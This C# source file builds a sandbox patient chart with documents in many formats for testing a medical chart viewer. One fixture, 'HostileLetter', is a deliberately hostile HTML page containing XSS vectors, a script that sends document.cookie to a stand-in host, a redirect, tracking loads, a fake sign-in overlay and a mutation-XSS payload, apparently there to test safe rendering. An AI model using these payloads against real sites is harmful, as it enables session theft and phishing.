using System.Text;
using HeiChartViewer.Sandbox.Population.Documents;
using HeiChartViewer.Sandbox.Population.Pathways;
using HeiChartViewer.Sandbox.Terminology;

namespace HeiChartViewer.Sandbox.Population.Cases;

/// <summary>Documents in every form that sources send, and in some that nobody should open.</summary>
internal static class DocumentCases
{
    private const string Letter = """
        <!DOCTYPE html>
        <html><head><title>Discharge letter</title><style>h1 { font-size: 1.2em }</style></head>
        <body>
        <h1>Discharge letter</h1>
        <p>Dear colleague, thank you for seeing our patient. The stay was <b>without complications</b>.</p>
        <table border="1">
        <tr><th>Drug</th><th>Dose</th></tr>
        <tr><td>Lisinopril</td><td>10 mg once daily</td></tr>
        </table>
        <ul><li>Blood pressure in two weeks</li><li>Potassium in four weeks</li></ul>
        </body></html>
        """;

    private const string HostileLetter = """
        <!DOCTYPE html>
        <html><head><base href="https://elsewhere.example.org/"><meta http-equiv="refresh" content="0;url=https://elsewhere.example.org/">
        <link rel="stylesheet" href="https://elsewhere.example.org/x.css"><style>@import url(https://elsewhere.example.org/y.css); body { background: url(https://elsewhere.example.org/z.png) }</style>
        <script>top.location = "https://elsewhere.example.org/?" + document.cookie</script></head>
        <body onload="alert(1)">
        <h1>Consultation letter</h1>
        <p>The words of this letter are real, and everything around them is hostile.</p>
        <img src="https://elsewhere.example.org/pixel.png" onerror="alert(2)"><svg onload="alert(3)"><script>alert(4)</script></svg>
        <a href="javascript:alert(5)">A link</a> <a href="https://elsewhere.example.org/" target="_top">Another</a>
        <form action="https://elsewhere.example.org/"><input name="password" autofocus onfocus="alert(6)"></form>
        <iframe src="https://elsewhere.example.org/"></iframe><object data="x.swf"></object><embed src="x.swf">
        <div style="position:fixed;inset:0;background:#fff;z-index:9999">You are signed out. Sign in again.</div>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(7)&gt;">
        </body></html>
        """;

    public static IReadOnlyList<PersonSketch> All =>
        [
            new()
            {
                Key = "documents",
                Title = "Documents in every form",
                What =
                    "Plain text, PDF, HTML, a continuity of care document, a picture, a kind nobody shows, one that is "
                    + "empty, one that cannot be had, and an HTML letter that is hostile: each says what it is, and none leaves the chart.",
                Name = new PersonName("Paula", "Archer"),
                Sex = Sex.Female,
                Born = new DateOnly(1968, 3, 14),
                Live = Live,
            },
        ];

    private static void Live(ChartBuilder chart)
    {
        HypertensionPathway.Live(chart);
        var visit = chart.See(
            VisitKind.Inpatient,
            new DateOnly(2026, 2, 3),
            Diagnoses.Pneumonia,
            chart.Hospital,
            nights: 3
        );
        chart.Vitals(visit);
        chart.Measure(visit, LabTests.BloodCount);
        chart.Diagnose(Diagnoses.Pneumonia, visit, visit.Day, visit.Day.AddDays(20));
        chart.Note(DocumentKind.Discharge, visit, "Cough and fever for three days.");
        chart.Document(
            DocumentKind.Imaging,
            visit,
            "Chest X-ray, report as PDF",
            "application/pdf",
            PdfDocument.Of([
                "CHEST X-RAY, TWO VIEWS",
                "",
                "Patient: ARCHER, Paula     Born: 14-Mar-1968",
                "",
                "Findings: consolidation of the right lower lobe. No effusion.",
                "Heart of normal size.",
                "",
                "Impression: pneumonia of the right lower lobe.",
            ])
        );
        chart.Document(
            DocumentKind.Imaging,
            visit,
            "Chest X-ray, picture",
            "image/png",
            PngImage.Of(256, 256, Chest)
        );
        chart.Document(
            DocumentKind.Discharge,
            visit,
            "Discharge letter",
            "text/html; charset=utf-8",
            Encoding.UTF8.GetBytes(Letter)
        );
        chart.Document(
            DocumentKind.Consult,
            visit,
            "Consultation letter",
            "text/html; charset=utf-8",
            Encoding.UTF8.GetBytes(HostileLetter)
        );
        chart.Document(
            DocumentKind.Discharge,
            visit,
            "Continuity of care document",
            "application/xml",
            chart.Summary(visit)
        );
        chart.Document(
            DocumentKind.Imaging,
            visit,
            "Chest X-ray, study",
            "application/dicom",
            [.. new byte[128], .. "DICM"u8]
        );
        chart.Document(DocumentKind.Progress, visit, "Ward round", "text/plain", []);
        chart.Document(DocumentKind.Operative, visit, "Bronchoscopy", "application/pdf", null);
        chart.Document(
            DocumentKind.Consult,
            visit,
            "Letter in Latin-1",
            "text/plain; charset=iso-8859-1",
            Encoding.Latin1.GetBytes(
                "Sent from São Paulo by Dr. Åström: nothing to add, à bientôt."
            )
        );
        chart.Document(
            DocumentKind.Consult,
            visit,
            "Letter in UTF-16",
            "text/plain; charset=utf-16",
            [
                .. Encoding.Unicode.GetPreamble(),
                .. Encoding.Unicode.GetBytes(
                    "Sent from Łódź by Dr. Παπαδόπουλος: nothing to add, do widzenia."
                ),
            ]
        );
    }

    /// <summary>Two lungs, a heart and a shadow.</summary>
    private static byte Chest(int x, int y)
    {
        var lung = Math.Min(Oval(x, y, 82, 128, 44, 88), Oval(x, y, 174, 128, 44, 88));
        var heart = Oval(x, y, 140, 160, 34, 42);
        var shadow = Oval(x, y, 78, 182, 26, 20);
        var light = 190 - (lung < 1 ? 140 : 0) + (heart < 1 ? 60 : 0) + (shadow < 1 ? 70 : 0);
        return (byte)Math.Clamp(light, 10, 235);
    }

    private static double Oval(int x, int y, int centreX, int centreY, int width, int height) =>
        Math.Pow((x - centreX) / (double)width, 2) + Math.Pow((y - centreY) / (double)height, 2);
}
